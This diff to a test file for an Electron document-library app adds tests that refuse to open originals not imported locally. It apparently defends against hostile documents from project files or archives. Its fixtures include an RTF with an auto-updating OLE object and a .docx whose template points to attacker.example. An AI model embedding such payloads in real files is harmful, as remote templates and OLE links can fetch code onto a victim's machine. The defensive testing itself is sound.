@@ -2,6 +2,9 @@ import { writeFile, mkdir } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { showOriginal } from '../../../electron/library/showOriginal';
+import { receiveOriginal } from '../../../electron/originals/libraryOriginals';
+import { markImported, recordEarlierOriginals } from '../../../electron/originals/importedOriginals';
+import { sha256Hex, storeOriginal, storeOriginalSync } from '../../../electron/originals/originalStore';
 import { UserFacingError } from '../../../electron/userFacingError';
 import type { ShellService } from '../../../electron/services';
 import { tempDir } from '../fixtures';
@@ -32,6 +35,7 @@ const shellAnswering = (error: string): ShellService => ({
 describe('showing a stored original', () => {
   test('asks the system to open a document file in the library folder', async () => {
     await writeFile(join(work.path, 'library', STORED), 'PK');
+    await markImported(join(work.path, 'library'), STORED);
     expect(await showOriginal(join(work.path, 'library'), STORED, shellAnswering(''))).toEqual({ opened: true });
     expect(opened).toEqual([join(work.path, 'library', STORED)]);
     expect(revealed).toEqual([]);
@@ -39,6 +43,7 @@ describe('showing a stored original', () => {
 
   test.each(['txt', 'md', 'docx', 'odt', 'rtf', 'csv', 'tsv', 'xlsx'])('a .%s original is opened with its program', async (extension) => {
     await writeFile(join(work.path, 'library', stored(extension)), 'content');
+    await markImported(join(work.path, 'library'), stored(extension));
     await showOriginal(join(work.path, 'library'), stored(extension), shellAnswering(''));
     expect(opened).toEqual([join(work.path, 'library', stored(extension))]);
   });
@@ -88,8 +93,76 @@ describe('showing a stored original', () => {
 
   test("the system's own refusal is passed on", async () => {
     await writeFile(join(work.path, 'library', STORED), 'PK');
+    await markImported(join(work.path, 'library'), STORED);
     await expect(showOriginal(join(work.path, 'library'), STORED, shellAnswering('No application is registered for .docx files'))).rejects.toThrow(
       'The system could not open the original: No application is registered for .docx files',
     );
+  });
+});
+
+// The renderer may be running an attacker's script: what it hands main (an original from a project
+// file or a REFI-QDA archive) is bytes it chose, and a .docx or .rtf can carry OLE objects and DDE
+// fields. Only originals main stored from the researcher's own imports are opened in their program.
+describe('showing an original by where it came from', () => {
+  const library = () => join(work.path, 'library');
+  const rtf = new TextEncoder().encode('{\\rtf1 {\\object\\objautlink\\objupdate {\\*\\objdata 0105}}}');
+  const docx = new TextEncoder().encode('PK\u0003\u0004 word/settings.xml attachedTemplate http://attacker.example/t.dotm');
+
+  test('an original received from the renderer (a project file, an archive) is shown in its folder, not opened, and why', async () => {
+    for (const [bytes, extension] of [[rtf, 'rtf'], [docx, 'docx']] as const) {
+      const name = `${sha256Hex(bytes)}.${extension}`;
+      await receiveOriginal(library(), name, bytes);
+      const shown = await showOriginal(library(), name, shellAnswering(''));
+      expect(shown).toEqual({
+        opened: false,
+        message:
+          "Framewise cannot tell that this original came from a file imported on this computer (it may have come in a project file, an archive or a backup), so it shows its file in the library folder instead of opening it. Open it yourself if you trust where it came from, or import that file again to have Framewise open it.",
+      });
+    }
+    expect(opened).toEqual([]);
+    expect(revealed).toEqual([join(library(), `${sha256Hex(rtf)}.rtf`), join(library(), `${sha256Hex(docx)}.docx`)]);
+  });
+
+  test('an original stored by an import is opened in its program, also after a restart (the record is on disk)', async () => {
+    const name = await storeOriginal(library(), sha256Hex(docx), 'docx', docx);
+    const byThread = storeOriginalSync(library(), sha256Hex(rtf), 'rtf', rtf);
+    expect(await showOriginal(library(), name, shellAnswering(''))).toEqual({ opened: true });
+    expect(await showOriginal(library(), byThread, shellAnswering(''))).toEqual({ opened: true });
+    expect(opened).toEqual([join(library(), name), join(library(), byThread)]);
+    expect(revealed).toEqual([]);
+  });
+
+  test('an original received before or after the same bytes were imported counts as imported; received under another extension it does not', async () => {
+    const name = `${sha256Hex(docx)}.docx`;
+    await receiveOriginal(library(), name, docx);
+    await storeOriginal(library(), sha256Hex(docx), 'docx', docx);
+    await receiveOriginal(library(), name, docx);
+    await receiveOriginal(library(), `${sha256Hex(docx)}.rtf`, docx);
+    await showOriginal(library(), name, shellAnswering(''));
+    await showOriginal(library(), `${sha256Hex(docx)}.rtf`, shellAnswering(''));
+    expect(opened).toEqual([join(library(), name)]);
+    expect(revealed).toEqual([join(library(), `${sha256Hex(docx)}.rtf`)]);
+  });
+
+  test('a library from before the record is taken as it was, once: its originals open; one received later does not', async () => {
+    await writeFile(join(library(), STORED), 'PK');
+    // Without the record, nothing tells an import from a received file: shown in its folder.
+    expect(await showOriginal(library(), STORED, shellAnswering(''))).toMatchObject({ opened: false });
+    await recordEarlierOriginals(library());
+    expect(await showOriginal(library(), STORED, shellAnswering(''))).toEqual({ opened: true });
+    const name = `${sha256Hex(rtf)}.rtf`;
+    await receiveOriginal(library(), name, rtf);
+    // The record exists now: a second start takes nothing more as imported.
+    await recordEarlierOriginals(library());
+    expect(await showOriginal(library(), name, shellAnswering(''))).toMatchObject({ opened: false });
+    expect(opened).toEqual([join(library(), STORED)]);
+    expect(revealed).toEqual([join(library(), STORED), join(library(), name)]);
+  });
+
+  test('a web page keeps its own reason, imported or not', async () => {
+    await writeFile(join(library(), stored('html')), '<script></script>');
+    await markImported(library(), stored('html'));
+    expect(await showOriginal(library(), stored('html'), shellAnswering(''))).toMatchObject({ opened: false, message: expect.stringContaining('web page') });
+    expect(opened).toEqual([]);
   });
 });
